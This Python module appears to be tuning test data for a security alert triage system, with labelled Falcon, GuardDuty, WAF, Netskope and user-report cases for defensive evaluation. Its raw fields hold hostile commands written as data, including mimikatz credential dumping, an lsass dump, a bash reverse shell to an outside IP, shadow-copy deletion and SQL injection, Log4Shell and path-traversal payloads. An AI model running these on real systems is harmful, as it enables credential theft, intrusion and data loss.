"""Tuning split, part 2: CrowdStrike Falcon, GuardDuty, AWS WAF, Netskope, user reports."""

from __future__ import annotations

import hashlib
from typing import Any

from tests.data.triage.labels import Case, case

MAL, SUS, BEN, UNK = "malicious", "suspicious", "benign", "unknown"


def falcon(
    n: int,
    detect: str,
    host: str,
    user: str,
    file_name: str,
    command_line: str,
    expected: tuple[str, str, list[str]],
    *,
    tactic: str,
    technique: str,
    severity: str = "High",
    parent: str = "explorer.exe",
    disposition: str = "Detection, standard detection.",
    extra: dict[str, Any] | None = None,
    note: str = "",
) -> Case:
    raw = {
        "DetectId": f"ldt:8c1e2f0a9b7d4c3e:{4294967296 + n * 7919}",
        "DetectName": detect,
        "ComputerName": host,
        "UserName": user,
        "Tactic": tactic,
        "Technique": technique,
        "SeverityName": severity,
        "FileName": file_name,
        "CommandLine": command_line,
        "ParentImageFileName": parent,
        "SHA256String": hashlib.sha256(f"{host}/{file_name}/{n}".encode()).hexdigest(),
        "PatternDispositionDescription": disposition,
        **(extra or {}),
    }
    return case(
        f"tune-cs-{n:03d}",
        "CrowdStrike Falcon",
        expected,
        title=f"Falcon detection: {detect} on {host}",
        description=f"{severity} severity {tactic} via {technique} on {host} ({user}). {note}".strip(),
        severity={"Critical": "critical", "High": "high", "Medium": "medium", "Low": "low"}[severity],
        incident_type="edr",
        source="crowdstrike",
        tags=["edr", "falcon"],
        raw_data=raw,
    )


ISOLATE = ["isolate_host"]

FALCON = [
    falcon(
        1,
        "CredentialDumping",
        "FIN-LT-0231",
        "ACME\\r.patel",
        "mimikatz.exe",
        'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        (MAL, "malware", ["isolate_host", "reset_credentials"]),
        tactic="Credential Access",
        technique="OS Credential Dumping",
        severity="Critical",
        parent="cmd.exe",
    ),
    falcon(
        2,
        "RansomwareShadowCopyDeletion",
        "FS-PRD-02",
        "ACME\\svc-backup",
        "vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        (MAL, "malware", ISOLATE),
        tactic="Impact",
        technique="Inhibit System Recovery",
        severity="Critical",
        parent="lockbit.exe",
        disposition="Prevention, process killed.",
        note="Files renamed with .lockbit extension; README_TO_DECRYPT.txt dropped in shares.",
    ),
    falcon(
        3,
        "EncodedPowerShell",
        "MKT-LT-0118",
        "ACME\\j.romero",
        "powershell.exe",
        "powershell.exe -nop -w hidden -enc "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        (MAL, "malware", ISOLATE),
        tactic="Execution",
        technique="PowerShell",
        parent="WINWORD.EXE",
        note="Spawned from a Word document opened from Outlook.",
    ),
    falcon(
        4,
        "TestDetection",
        "IT-LT-0007",
        "ACME\\secops.tester",
        "eicar.com",
        "C:\\Users\\secops.tester\\Downloads\\eicar.com",
        (BEN, "malware", []),
        tactic="Malware",
        technique="Machine Learning",
        severity="Low",
        note="EICAR test file downloaded by the security team to verify sensor health.",
    ),
    falcon(
        5,
        "CobaltStrikeBeacon",
        "DEV-WS-0442",
        "ACME\\k.osei",
        "rundll32.exe",
        "rundll32.exe C:\\ProgramData\\update.dll,StartW",
        (MAL, "malware", ["isolate_host", "block_ip"]),
        tactic="Command and Control",
        technique="Application Layer Protocol",
        severity="Critical",
        extra={"NetworkAccesses": [{"RemoteAddress": "45.61.136.47", "RemotePort": 443}], "c2_ip": "45.61.136.47"},
        note="Cobalt Strike beacon pattern, beaconing every 60 s to 45.61.136.47.",
    ),
    falcon(
        6,
        "PsExecLateralMovement",
        "IT-ADM-01",
        "ACME\\adm.svensson",
        "PsExec64.exe",
        "PsExec64.exe \\\\FS-PRD-01 -s cmd /c gpupdate /force",
        (BEN, "malware", []),
        tactic="Lateral Movement",
        technique="Remote Services",
        severity="Medium",
        parent="cmd.exe",
        note="Run by a domain admin from the admin jump host during change CHG-20417 (GPO rollout). Known-good use.",
    ),
    falcon(
        7,
        "AdwareBundler",
        "SLS-LT-0350",
        "ACME\\m.lindqvist",
        "PDFConverterSetup.exe",
        "PDFConverterSetup.exe /silent",
        (SUS, "malware", []),
        tactic="Malware",
        technique="Machine Learning",
        severity="Low",
        disposition="Prevention, file quarantined.",
        note="Potentially unwanted program (browser hijacker bundle) blocked and quarantined.",
    ),
    falcon(
        8,
        "LsassMemoryAccess",
        "DC-PRD-01",
        "ACME\\administrator",
        "procdump64.exe",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp",
        (MAL, "malware", ["isolate_host", "reset_credentials"]),
        tactic="Credential Access",
        technique="LSASS Memory",
        severity="Critical",
        parent="cmd.exe",
    ),
    falcon(
        9,
        "ReverseShell",
        "web-prd-03",
        "www-data",
        "bash",
        "bash -i >& /dev/tcp/103.75.190.11/4444 0>&1",
        (MAL, "malware", ["isolate_host", "block_ip"]),
        tactic="Execution",
        technique="Unix Shell",
        severity="Critical",
        parent="php-fpm",
        extra={"RemoteAddress": "103.75.190.11", "c2_ip": "103.75.190.11"},
    ),
    falcon(
        10,
        "AtomicRedTeamTest",
        "SEC-LAB-03",
        "ACME\\redteam",
        "powershell.exe",
        "powershell.exe Invoke-AtomicTest T1003.001",
        (BEN, "malware", []),
        tactic="Credential Access",
        technique="LSASS Memory",
        severity="High",
        note="Atomic Red Team exercise in the security lab, ticket SEC-1182.",
    ),
    falcon(
        11,
        "KnownMalwareHash",
        "HR-LT-0077",
        "ACME\\a.novak",
        "Invoice_Viewer.exe",
        "C:\\Users\\a.novak\\AppData\\Local\\Temp\\Invoice_Viewer.exe",
        (MAL, "malware", ISOLATE),
        tactic="Malware",
        technique="Known Malware",
        severity="High",
        disposition="Prevention, file quarantined.",
        extra={"hash_reputation": "malicious", "malware_family": "AgentTesla", "vt_positives": 54},
    ),
    falcon(
        12,
        "RemoteManagementTool",
        "SUP-WS-0012",
        "ACME\\helpdesk.l1",
        "AnyDesk.exe",
        "AnyDesk.exe --start-with-win",
        (BEN, "malware", []),
        tactic="Command and Control",
        technique="Remote Access Software",
        severity="Low",
        note="AnyDesk installed by the helpdesk team; approved tool on the software list.",
    ),
    falcon(
        13,
        "SuspiciousScheduledTask",
        "ENG-WS-0219",
        "ACME\\l.fischer",
        "schtasks.exe",
        'schtasks /create /sc minute /mo 15 /tn "OneDrive Update" /tr "C:\\Users\\Public\\od.exe"',
        (SUS, "malware", ["isolate_host"]),
        tactic="Persistence",
        technique="Scheduled Task",
        severity="Medium",
        parent="wscript.exe",
        note="od.exe is unsigned and has no reputation yet.",
    ),
    falcon(
        14,
        "CryptominerXMRig",
        "BLD-AGENT-07",
        "root",
        "xmrig",
        "./xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ --tls",
        (MAL, "malware", ISOLATE),
        tactic="Impact",
        technique="Resource Hijacking",
        severity="High",
        parent="bash",
    ),
    falcon(
        15,
        "SCCMScript",
        "IT-SCCM-01",
        "NT AUTHORITY\\SYSTEM",
        "powershell.exe",
        "powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\inventory.ps1",
        (BEN, "malware", []),
        tactic="Execution",
        technique="PowerShell",
        severity="Low",
        parent="CcmExec.exe",
        note="Signed Microsoft Configuration Manager inventory script.",
    ),
    falcon(
        16,
        "RansomNoteCreation",
        "ACC-LT-0019",
        "ACME\\o.adeyemi",
        "svch0st.exe",
        "C:\\Users\\Public\\svch0st.exe -path \\\\FS-PRD-01\\finance",
        (MAL, "malware", ISOLATE),
        tactic="Impact",
        technique="Data Encrypted for Impact",
        severity="Critical",
        note="Ransomware: 1,200 files renamed .akira and akira_readme.txt written in each folder.",
    ),
]


def falcon_ransom_report() -> Case:
    return case(
        "tune-mrep-001",
        "User report (service desk mail)",
        (MAL, "malware", ["isolate_host"]),
        title="all my files have weird extension and a note",
        description="all my files on the laptop and the shared drive have .akira at the end and there is a "
        "text file saying my files have been encrypted and to contact them. laptop ACC-LT-0023",
        severity="critical",
        source="service_desk",
        affected_systems=["ACC-LT-0023"],
    )


MALWARE_REPORTS = [
    falcon_ransom_report(),
    case(
        "tune-mrep-002",
        "User report (service desk mail)",
        (SUS, "malware", []),
        title="Laptop very slow and popups",
        description="Since I installed a free PDF tool yesterday my browser opens ads by itself and the search "
        "engine changed. Laptop SLS-LT-0311.",
        severity="low",
        source="service_desk",
    ),
    case(
        "tune-mrep-003",
        "User report (service desk mail)",
        (UNK, "generic", []),
        title="something strange on my computer?",
        description="My computer did something strange earlier, not sure what. Can someone check?",
        severity="low",
        source="service_desk",
    ),
    case(
        "tune-mrep-004",
        "User report (service desk mail)",
        (MAL, "malware", ["isolate_host"]),
        title="Opened attachment, Word asked to enable content",
        description="I opened the invoice attachment from a supplier, clicked 'Enable content' and a black window "
        "flashed. Now antivirus says Trojan:Win32/Emotet detected but could not remove. PC: FIN-WS-0102",
        severity="high",
        source="service_desk",
        raw_data={"host": "FIN-WS-0102", "threat_name": "Trojan:Win32/Emotet"},
    ),
]


def guardduty(
    n: int, finding: str, description: str, expected: tuple[str, str, list[str]], resource: dict[str, Any], **raw: Any
) -> Case:
    gd_severity = raw.pop("gd_severity", 5.0)
    return case(
        f"tune-gd-{n:03d}",
        "Amazon GuardDuty",
        expected,
        title=f"GuardDuty finding {finding}",
        description=description,
        severity="high" if gd_severity >= 7 else "medium" if gd_severity >= 4 else "low",
        source="guardduty",
        tags=["aws", "guardduty"],
        raw_data={"schemaVersion": "2.0", "type": finding, "severity": gd_severity, "resource": resource, **raw},
    )


EC2 = {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-0c4d5e6f7a8b9c0d1", "hostname": "ip-10-0-3-17"}}
S3 = {"resourceType": "S3Bucket", "s3BucketDetails": [{"name": "acme-prod-customer-exports"}]}


def iam(user: str) -> dict[str, Any]:
    return {"resourceType": "AccessKey", "accessKeyDetails": {"userName": user, "accessKeyId": "AKIAIOSFODNN7EXAMPLE"}}


GUARDDUTY = [
    guardduty(
        1,
        "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        "EC2 instance i-0c4d5e6f7a8b9c0d1 is querying a domain name that is associated with Bitcoin-related "
        "activity (xmr.pool.minergate.com).",
        (MAL, "malware", ["isolate_host"]),
        EC2,
        gd_severity=8.0,
        host="ip-10-0-3-17",
    ),
    guardduty(
        2,
        "Backdoor:EC2/C&CActivity.B",
        "EC2 instance i-0c4d5e6f7a8b9c0d1 is querying an IP address 194.165.16.72 that is associated with a known "
        "command and control server.",
        (MAL, "malware", ["isolate_host", "block_ip"]),
        EC2,
        gd_severity=8.0,
        host="ip-10-0-3-17",
        destination_ip="194.165.16.72",
    ),
    guardduty(
        3,
        "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        "Credentials created exclusively for an EC2 instance using instance role app-prod-role are being used "
        "from external IP address 152.89.196.33.",
        (MAL, "generic", ["block_ip", "escalate"]),
        iam("app-prod-role"),
        gd_severity=8.0,
        source_ip="152.89.196.33",
    ),
    guardduty(
        4,
        "Recon:EC2/PortProbeUnprotectedPort",
        "Unprotected port on EC2 instance i-0c4d5e6f7a8b9c0d1 is being probed (port 8080 open to 0.0.0.0/0).",
        (BEN, "generic", []),
        EC2,
        gd_severity=2.0,
    ),
    guardduty(
        5,
        "Policy:IAMUser/RootCredentialUsage",
        "API ListBuckets was invoked using root credentials from 81.2.69.160.",
        (SUS, "generic", []),
        {"resourceType": "AccessKey", "accessKeyDetails": {"userType": "Root", "userName": "Root"}},
        gd_severity=2.0,
        source_ip="81.2.69.160",
    ),
    guardduty(
        6,
        "Stealth:IAMUser/CloudTrailLoggingDisabled",
        "AWS CloudTrail trail org-trail was disabled by ci-deployer from 185.100.87.41, an address never seen for "
        "this principal.",
        (MAL, "generic", ["disable_user", "block_ip"]),
        iam("ci-deployer"),
        gd_severity=5.0,
        user="ci-deployer",
        source_ip="185.100.87.41",
    ),
    guardduty(
        7,
        "Exfiltration:S3/AnomalousBehavior",
        "An IAM entity invoked an S3 API in a suspicious way: 48,211 GetObject calls on acme-prod-customer-exports "
        "by analytics-reader within 20 minutes, far above its baseline.",
        (MAL, "data_exfiltration", ["disable_user"]),
        S3,
        gd_severity=8.0,
        user="analytics-reader",
        objects_read=48211,
        bytes_out=21474836480,
    ),
    guardduty(
        8,
        "Exfiltration:S3/MaliciousIPCaller",
        "An S3 API GetObject was invoked from known malicious IP address 45.9.148.108 on bucket "
        "acme-prod-customer-exports.",
        (MAL, "data_exfiltration", ["block_ip", "disable_user"]),
        S3,
        gd_severity=8.0,
        user="legacy-export-user",
        remote_ip="45.9.148.108",
    ),
    guardduty(
        9,
        "PenTest:IAMUser/KaliLinux",
        "An API was invoked from a Kali Linux machine, using credentials of pentest-readonly. The account is the "
        "one provisioned for the approved penetration test by Redline Security (CHG-20431).",
        (BEN, "generic", []),
        iam("pentest-readonly"),
        gd_severity=5.0,
    ),
    guardduty(
        10,
        "Discovery:S3/TorIPCaller",
        "An S3 API ListObjects was invoked from a Tor exit node 185.220.101.4 using the credentials of reporting-app.",
        (SUS, "generic", ["block_ip"]),
        iam("reporting-app"),
        gd_severity=5.0,
        source_ip="185.220.101.4",
    ),
    guardduty(
        11,
        "Impact:EC2/BitcoinDomainRequest.Reputation",
        "EC2 instance i-0c4d5e6f7a8b9c0d1 is querying a domain associated with cryptocurrency mining.",
        (MAL, "malware", ["isolate_host"]),
        EC2,
        gd_severity=8.0,
        host="ip-10-0-3-17",
    ),
    guardduty(
        12,
        "UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B",
        "Multiple worldwide successful console logins were observed for the IAM user finance-admin within an hour: "
        "Frankfurt, Sao Paulo and Singapore.",
        (MAL, "generic", ["disable_user", "reset_credentials"]),
        iam("finance-admin"),
        gd_severity=5.0,
        user="finance-admin",
    ),
]


def waf(
    n: int, rule: str, uri: str, ip: str, country: str, action: str, count: int, expected: tuple[str, str, list[str]]
) -> Case:
    return case(
        f"tune-waf-{n:03d}",
        "AWS WAF",
        expected,
        title=f"AWS WAF {action}: {rule} from {ip}",
        description=f"{count} requests from {ip} ({country}) matched {rule} on web ACL prod-edge in 5 minutes.",
        severity="medium",
        source="aws_waf",
        tags=["waf"],
        raw_data={
            "webaclId": "arn:aws:wafv2:us-east-1:123456789012:regional/webacl/prod-edge/4f1a",
            "terminatingRuleId": rule,
            "action": action,
            "httpRequest": {"clientIp": ip, "country": country, "uri": uri, "httpMethod": "GET"},
            "request_count": count,
            "client_ip": ip,
        },
    )


AWS_WAF = [
    waf(
        1,
        "AWS-AWSManagedRulesSQLiRuleSet",
        "/products?id=1'+UNION+SELECT+username,password+FROM+users--",
        "89.248.163.15",
        "NL",
        "BLOCK",
        1840,
        (MAL, "generic", ["block_ip"]),
    ),
    waf(
        2,
        "AWS-AWSManagedRulesKnownBadInputsRuleSet",
        "/api/v1/search?q=${jndi:ldap://45.83.64.1:1389/a}",
        "45.83.64.1",
        "DE",
        "BLOCK",
        212,
        (MAL, "generic", ["block_ip"]),
    ),
    waf(3, "AWS-AWSManagedRulesCommonRuleSet", "/wp-login.php", "20.115.48.9", "US", "BLOCK", 35, (BEN, "generic", [])),
    waf(
        4,
        "RateLimit-Login-500",
        "/auth/login",
        "179.43.133.20",
        "CH",
        "BLOCK",
        12450,
        (MAL, "brute_force", ["block_ip"]),
    ),
    waf(
        5,
        "AWS-AWSManagedRulesCommonRuleSet-SizeRestrictions_BODY",
        "/api/v1/documents/upload",
        "10.0.12.44",
        "US",
        "BLOCK",
        61,
        (BEN, "generic", []),
    ),
    waf(
        6,
        "AWS-AWSManagedRulesLinuxRuleSet-LFI_URIPATH",
        "/static/../../../../etc/passwd",
        "194.26.192.64",
        "RU",
        "BLOCK",
        480,
        (MAL, "generic", ["block_ip"]),
    ),
    waf(7, "AWS-AWSManagedRulesAmazonIpReputationList", "/", "66.249.66.1", "US", "COUNT", 3, (BEN, "generic", [])),
]


def netskope(
    n: int, title: str, user: str, app: str, file: str, size: int, expected: tuple[str, str, list[str]], **raw: Any
) -> Case:
    return case(
        f"tune-ns-{n:03d}",
        "Netskope",
        expected,
        title=title,
        description=raw.pop("description", f"Netskope DLP: {user} uploaded {file} to {app}."),
        severity=raw.pop("severity", "high"),
        incident_type="dlp",
        source="netskope",
        tags=["dlp", "casb"],
        raw_data={
            "alert_type": "DLP",
            "user": user,
            "app": app,
            "activity": "Upload",
            "file_name": file,
            "file_size": size,
            "bytes_uploaded": size,
            **raw,
        },
    )


NETSKOPE = [
    netskope(
        1,
        "DLP: source code archive uploaded to personal Google Drive",
        "l.fischer@acme-corp.com",
        "Google Drive (personal)",
        "platform-monorepo.zip",
        3_400_000_000,
        (MAL, "data_exfiltration", ["disable_user", "notify"]),
        instance="lukas.fischer.dev@gmail.com",
        dlp_policy="Source code",
        description="l.fischer (resigned, last day Friday) uploaded platform-monorepo.zip (3.4 GB) to a personal "
        "Google Drive at 23:40, outside business hours.",
    ),
    netskope(
        2,
        "DLP: customer PII spreadsheet to WeTransfer",
        "f.costa@acme-corp.com",
        "WeTransfer",
        "customers_export_2026.xlsx",
        48_000_000,
        (SUS, "data_exfiltration", ["notify"]),
        dlp_policy="PII - EU",
        destination_domain="wetransfer.com",
    ),
    netskope(
        3,
        "Large upload to corporate OneDrive",
        "n.berg@acme-corp.com",
        "OneDrive for Business (corporate)",
        "Q4-board-pack.pptx",
        1_200_000_000,
        (BEN, "data_exfiltration", []),
        instance="acmecorp-my.sharepoint.com",
        description="Upload to the corporate tenant (approved transfer) of the board pack by the CFO's office.",
        severity="low",
    ),
    netskope(
        4,
        "DLP: payroll file sent to personal gmail",
        "p.moreau@acme-corp.com",
        "Gmail",
        "payroll_nov.csv",
        2_300_000,
        (MAL, "data_exfiltration", ["disable_user", "notify"]),
        dlp_policy="Payroll",
        description="p.moreau emailed payroll_nov.csv (salaries, IBANs, SSN of 812 staff) to a personal gmail account.",
    ),
    netskope(
        5,
        "Nightly backup to S3 flagged as large upload",
        "svc-veeam@acme-corp.com",
        "Amazon S3",
        "backup-2026-11-20.vbk",
        640_000_000_000,
        (BEN, "data_exfiltration", []),
        description="Scheduled backup job of Veeam to the company's S3 bucket acme-backups-eu (sanctioned "
        "destination). Same volume every night.",
        severity="low",
        sanctioned=True,
    ),
    netskope(
        6,
        "Upload to Mega.nz from engineering laptop",
        "r.okafor@acme-corp.com",
        "MEGA",
        "designs.7z",
        9_800_000_000,
        (MAL, "data_exfiltration", ["disable_user", "notify"]),
        destination_domain="mega.nz",
        first_seen_destination=True,
        description="9.8 GB archive designs.7z uploaded to mega.nz, a destination "
        "never seen before for this user, 02:14 local time.",
    ),
    netskope(
        7,
        "Photos synced to personal iCloud",
        "h.santos@acme-corp.com",
        "iCloud",
        "IMG_2041.HEIC",
        3_100_000,
        (BEN, "data_exfiltration", []),
        severity="low",
        description="Personal photos from the user's phone synced to iCloud over corporate Wi-Fi. No corporate data.",
    ),
    netskope(
        8,
        "DLP: credit card numbers pasted to pastebin",
        "u.kaya@acme-corp.com",
        "Pastebin",
        "paste.txt",
        18_000,
        (SUS, "data_exfiltration", ["notify"]),
        dlp_policy="PCI - cardholder data",
        destination_domain="pastebin.com",
    ),
]

EXFIL_OTHER = [
    case(
        "tune-exrep-001",
        "User report (service desk mail)",
        (SUS, "data_exfiltration", ["notify"]),
        title="colleague copying client files to USB",
        description="I saw a colleague from sales copy the whole client folder to a USB drive last night and he "
        "is leaving for a competitor next week. Not sure who to tell.",
        severity="medium",
        source="service_desk",
    ),
    case(
        "tune-exrep-002",
        "VPC Flow Logs anomaly (SIEM rule)",
        (BEN, "data_exfiltration", []),
        title="Unusual outbound volume from db-replica-02",
        description="db-replica-02 sent 220 GB to 10.60.0.15 over 3 hours. That address is the DR site replica; "
        "the weekly replication job ran as scheduled.",
        severity="medium",
        source="siem",
        raw_data={"src_ip": "10.50.1.22", "dst_ip": "10.60.0.15", "bytes_out": 236223201280, "dst_port": 5432},
    ),
    case(
        "tune-exrep-003",
        "VPC Flow Logs anomaly (SIEM rule)",
        (MAL, "data_exfiltration", ["block_ip", "isolate_host"]),
        title="Large outbound transfer to unknown host from app server",
        description="app-prd-07 uploaded 14 GB to 193.233.20.5:443 between 01:00 and 04:00, first-seen "
        "destination, uncategorized. A tar -czf of /var/lib/app/exports ran just before.",
        severity="high",
        source="siem",
        raw_data={
            "host": "app-prd-07",
            "destination_ip": "193.233.20.5",
            "bytes_out": 15032385536,
            "destination_category": "uncategorized",
        },
    ),
]

CASES = [*FALCON, *MALWARE_REPORTS, *GUARDDUTY, *AWS_WAF, *NETSKOPE, *EXFIL_OTHER]
